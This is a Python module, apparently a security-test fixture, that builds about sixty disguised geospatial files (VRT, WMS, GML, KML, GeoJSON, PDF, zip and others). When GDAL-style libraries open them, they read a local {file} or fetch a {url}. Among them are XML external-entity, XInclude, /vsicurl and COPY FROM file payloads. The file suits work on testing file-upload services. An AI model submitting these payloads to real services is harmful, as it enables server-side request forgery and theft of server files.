"""One file of each of some fifty kinds that mapping libraries open, each naming a file of the machine or an
address.

Whatever opened one of them as what it is would read ``{file}`` or fetch ``{url}``.
"""

SHAPE = '{"type":"Polygon","coordinates":[[[-2,54],[-1.9,54],[-1.9,54.1],[-2,54.1],[-2,54]]]}'
FEATURE = '{"type":"Feature","properties":{"ref":"A"},"geometry":' + SHAPE + "}"
WKT = "POLYGON((-2 54,-1.9 54,-1.9 54.1,-2 54.1,-2 54))"
VRT = (
    '<OGRVRTDataSource><!-- <kml --><OGRVRTLayer name="a"><SrcDataSource>CSV:%s</SrcDataSource><OpenOptions>'
    f"<OOI key=\"HEADERS\">NO</OOI></OpenOptions><SrcSQL>SELECT field_1, '{WKT}' AS wkt FROM canary</SrcSQL>"
    '<GeometryType>wkbPolygon</GeometryType><LayerSRS>EPSG:4326</LayerSRS><GeometryField encoding="WKT" field="wkt"/>'
    "</OGRVRTLayer></OGRVRTDataSource>"
)
PIPELINE = (
    '{"type":"gdal_streamed_alg","command_line":"gdal vector pipeline ! read %s ! write --of stream x"}'
)

DISGUISES: dict[str, str] = {
    "OGR_VRT of a file": VRT % "{file}",
    "OGR_VRT of an address": VRT % "/vsicurl/{url}",
    "OGR_VRT warped": "<OGRVRTWarpedDataSource><kml/><OGRVRTLayer name='a'><SrcDataSource>{file}</SrcDataSource>"
    "</OGRVRTLayer></OGRVRTWarpedDataSource>",
    "GDALG of a file": PIPELINE % "{file}",
    "GDALG of an address": PIPELINE % "/vsicurl/{url}",
    "GDAL tile index": "<GDALTileIndexDataset><kml/><IndexDataset>{file}</IndexDataset></GDALTileIndexDataset>",
    "VRT raster": "<VRTDataset rasterXSize='1' rasterYSize='1'><kml/><VRTRasterBand><SimpleSource>"
    "<SourceFilename>{file}</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>",
    "WMS": "<GDAL_WMS><kml/><Service name='TMS'><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>",
    "WMTS": "<GDAL_WMTS><GetCapabilitiesUrl>{url}</GetCapabilitiesUrl><!-- <kml --></GDAL_WMTS>",
    "WCS": "<WCS_GDAL><ServiceURL>{url}</ServiceURL><CoverageName>a</CoverageName><kml/></WCS_GDAL>",
    "WFS": "<OGRWFSDataSource><!-- <kml --><URL>{url}?SERVICE=WFS</URL></OGRWFSDataSource>",
    "CSW": "<OGRCSWDataSource><!-- <kml --><URL>{url}</URL></OGRCSWDataSource>",
    "GMLAS": "<GMLAS><!-- <kml --><schema>{file}</schema></GMLAS>",
    "GML": "<gml:FeatureCollection xmlns:gml='http://www.opengis.net/gml' xmlns:xlink='http://www.w3.org/1999/xlink'"
    " xmlns:xsi='x' xsi:schemaLocation='a {url}'><gml:featureMember xlink:href='{file}'/></gml:FeatureCollection>",
    "GPX": "<gpx version='1.1'><metadata><link href='{url}'/></metadata><kml/></gpx>",
    "GeoRSS": "<rss version='2.0'><channel><link>{url}</link><kml/></channel></rss>",
    "OSM": "<osm version='0.6'><node id='1' lat='54' lon='-2'/><!-- <kml {url} --></osm>",
    "JML": "<JCSDataFile><JCSGMLInputTemplate>{file}</JCSGMLInputTemplate><kml/></JCSDataFile>",
    "LVBAG": "<sl-bag-extract:bagStand xmlns:sl-bag-extract='x'><kml href='{file}'/></sl-bag-extract:bagStand>",
    "MapML": "<mapml- xmlns='http://www.w3.org/1999/xhtml'><map-link href='{url}'/><kml/></mapml->",
    "PDS4": "<Product_Observational><File_Area_Observational><File><file_name>{file}</file_name></File>"
    "</File_Area_Observational><kml/></Product_Observational>",
    "SVG": "<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}'/><kml/></svg>",
    "XInclude": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{file}'/>",
    "HTML": "<html><head><base href='{url}'/></head><body><kml/></body></html>",
    "external entity": "<!DOCTYPE kml [<!ENTITY c SYSTEM 'file://{file}'>]><kml><Placemark><name>&c;</name></Placemark></kml>",
    "external DTD": "<!DOCTYPE kml SYSTEM '{url}'><kml><Placemark><name>A</name></Placemark></kml>",
    "KML network link": "<kml><NetworkLink><Link><href>{url}</href></Link></NetworkLink></kml>",
    "KML network link to a file": "<kml><Folder><NetworkLink><Url><href>{file}</href></Url></NetworkLink></Folder></kml>",
    "OAPIF": '{"links":[{"rel":"data","href":"{url}"}],"collections":[{"id":"a","links":[{"href":"{url}"}]}]}',
    "OGCAPI": '{"type":"Collection","id":"a","links":[{"rel":"items","type":"application/geo+json","href":"{url}"}]}',
    "STAC collection": '{"type":"Collection","stac_version":"1.0.0","links":[{"rel":"item","href":"{url}"}]}',
    "STACTA": '{"stac_extensions":["tiled-assets"],"asset_templates":{"a":{"href":"{file}"}}}',
    "ESRI JSON": '{"displayFieldName":"a","geometryType":"esriGeometryPolygon","exceededTransferLimit":true,"url":"{url}"}',
    "TopoJSON": '{"type":"Topology","objects":{"a":{"type":"GeometryCollection","geometries":[]}},"href":"{url}"}',
    "PLScenes": '{"_links":{"_next":"{url}"},"features":[]}',
    "EEDA": '{"type":"IMAGE_COLLECTION","name":"EEDA:{url}"}',
    "GeoJSON sequence": "\x1e" + FEATURE + "\n",
    "GeoJSON lines": FEATURE + "\n" + FEATURE + "\n",
    "GeoJSON with a link": '{"type":"FeatureCollection","features":[' + FEATURE + '],"crs":{"type":"link",'
    '"properties":{"href":"{url}","type":"proj4"}}}',
    "GeoJSON with a link in a feature": '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},'
    '"geometry":' + SHAPE + ',"crs":{"type":"link","properties":{"href":"{file}"}}}]}',
    "GeoJSON with a grid file": '{"type":"FeatureCollection","features":['
    + FEATURE
    + '],"crs":{"type":"name",'
    '"properties":{"name":"+proj=longlat +ellps=airy +nadgrids={file}"}}}',
    "GeoJSON with an init file": '{"type":"FeatureCollection","features":['
    + FEATURE
    + '],"crs":{"type":"name",'
    '"properties":{"name":"+init={file}:a"}}}',
    "GeoJSON with an address as system": '{"type":"FeatureCollection","features":['
    + FEATURE
    + '],"crs":{"type":"name",'
    '"properties":{"name":"{url}"}}}',
    "CSV": f'WKT,ref\n"{WKT}",A\n',
    "CSVT": '"WKT","String"\n{file}\n',
    "TAB": '!table\n!version 300\nOpen Table "{file}" Interactive\nDefinition Table\n  Type NATIVE\n',
    "MIF": 'Version 300\nCharset "Neutral"\nColumns 1\n ref Char(10)\nData\n',
    "DXF": "  0\nSECTION\n  2\nHEADER\n  1\n{file}\n  0\nEOF\n",
    "AVCE00": "EXP  0 {file}\nARC  2\n",
    "GMT": "# @VGMT1.0 @GPOLYGON\n# @Jp{file}\n",
    "VFK": '&HVERZE;"5.1"\n&HZMENY;0\n',
    "EDIGEO": "BOMT 12:{file}\nRTYSA03:GTS\n",
    "VDV": 'mod; DD.MM.YYYY; HH:MM:SS; free\nsrc; "{file}"\n',
    "GTFS": "agency_id,agency_url\n1,{url}\n",
    "PGDUMP": "SET standard_conforming_string = OFF;\nCOPY a FROM '{file}';\n",
    "connection string": "PG:host=127.0.0.1 dbname=marketplace\n",
    "path": "/vsicurl/{url}\n",
    "bare address": "{url}\n",
    "bare file name": "{file}\n",
    "S57": "00000 3LE1 0900073   6604{file}",
    "PMTiles": "PMTiles\x03{url}",
    "FlatGeobuf": "fgb\x03fgb\x00{file}",
    "PDF": "%PDF-1.6\n1 0 obj << /F ({file}) /URI ({url}) >>\n",
    "zip": "PK\x03\x04{file}",
}
